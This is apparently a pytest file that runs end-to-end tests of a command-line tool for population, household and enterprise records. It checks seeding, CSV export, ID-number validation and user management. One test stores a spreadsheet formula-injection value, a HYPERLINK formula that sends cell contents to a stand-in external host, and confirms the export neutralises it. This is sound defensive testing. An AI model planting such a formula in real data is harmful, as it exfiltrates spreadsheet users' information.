"""The CLI end to end, as an operator would run it (in-process Typer runner, real database)."""

from __future__ import annotations

import csv
import json

from typer.testing import CliRunner

from onesheet.cli.main import app
from onesheet.domain.values.idnumber import parse_id_number

runner = CliRunner()


def test_seed_export_rebuild_and_refused_correction(cli, tmp_path):
    assert cli("init").exit_code == 0
    seeded = cli("seed", "--county", "330523", "--people", "1500", "--seed", "3")
    assert seeded.exit_code == 0, seeded.output
    out = tmp_path / "people.csv"
    exported = cli("sheet", "export", "--entity", "person", "--out", str(out))
    assert exported.exit_code == 0, exported.output
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1500
    ids = [r["person.id_number"] for r in rows]
    assert len(set(ids)) == 1500
    for r in rows:
        parsed = parse_id_number(r["person.id_number"])
        assert parsed.address_code == "330523"
        assert parsed.sex_code == r["person.gender"]
        assert parsed.birth_date.isoformat() == r["person.birth_date"]
    assert cli("sheet", "rebuild", "--check").exit_code == 0

    target = rows[0]
    good = target["person.id_number"]
    wrong = good[:17] + ("0" if good[17] != "0" else "1")
    refused = cli(
        "sheet", "correct", target["entity_id"], "--field", "person.id_number", "--value", wrong
    )
    assert refused.exit_code == 2
    assert f"应为 {good[17]}" in refused.output
    assert "Traceback" not in refused.output
    shown = cli("sheet", "show", target["entity_id"], "--json")
    card = json.loads(shown.stdout)
    assert next(v for v in card["values"] if v["key"] == "person.id_number")["value"] == good
    assert cli("sheet", "rebuild", "--check").exit_code == 0


def test_reference_commands(cli, tmp_path):
    cli("init")
    fields = json.loads(cli("fields", "list", "--json").stdout)
    assert len(fields) >= 80
    assert {f["entity"] for f in fields} == {"person", "household", "enterprise", "house", "place"}
    houses = json.loads(cli("fields", "list", "--entity", "house", "--json").stdout)
    assert houses and all(f["entity"] == "house" for f in houses)
    assert cli("fields", "list", "--entity", "car").exit_code == 2

    cli("seed", "--people", "300", "--seed", "1")
    orgs = json.loads(cli("orgs", "list", "--json").stdout)
    levels = {o["level"] for o in orgs}
    assert levels == {"county", "town", "village", "grid"}
    town = next(o for o in orgs if o["level"] == "town")
    under = json.loads(cli("orgs", "list", "--under", town["code"], "--json").stdout)
    assert under and all(o["code"].startswith(town["code"]) for o in under)

    pw = tmp_path / "pw.txt"
    pw.write_text("s3cret-pass\n", encoding="utf-8")
    village = next(o for o in orgs if o["level"] == "village")
    add_wang = ("users", "add", "wang", "--role", "village", "--org", village["code"],
                "--password-file", str(pw))  # fmt: skip
    ok = cli(*add_wang)
    assert ok.exit_code == 0, ok.output
    again = cli(*add_wang)
    assert again.exit_code == 2 and "已存在" in again.output
    bad_role = cli(
        "users",
        "add",
        "zhao",
        "--role",
        "boss",
        "--org",
        village["code"],
        "--password-file",
        str(pw),
    )
    assert bad_role.exit_code == 2 and "未知角色" in bad_role.output


def test_commands_on_an_uninitialised_database_say_so(tmp_path):
    result = runner.invoke(
        app, ["--database-url", f"sqlite:///{tmp_path}/empty.db", "sheet", "rebuild", "--check"]
    )
    assert result.exit_code == 2
    assert "onesheet init" in result.output


def test_raw_export_cannot_carry_a_formula(cli, tmp_path):
    """A typed value that a spreadsheet would run as a formula is exported inert."""
    assert cli("init").exit_code == 0
    assert cli("seed", "--county", "330523", "--people", "50", "--seed", "4").exit_code == 0
    first = tmp_path / "first.csv"
    assert cli("sheet", "export", "--entity", "person", "--out", str(first)).exit_code == 0
    with first.open(encoding="utf-8-sig", newline="") as fh:
        target = next(csv.DictReader(fh))["entity_id"]
    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
    fixed = cli("sheet", "correct", target, "--field", "person.current_address", "--value", evil)
    assert fixed.exit_code == 0, fixed.output
    out = tmp_path / "people.csv"
    assert cli("sheet", "export", "--entity", "person", "--out", str(out)).exit_code == 0
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = {r["entity_id"]: r for r in csv.DictReader(fh)}
    assert rows[target]["person.current_address"] == "'" + evil
    assert not any(v.startswith("=") for r in rows.values() for v in r.values())
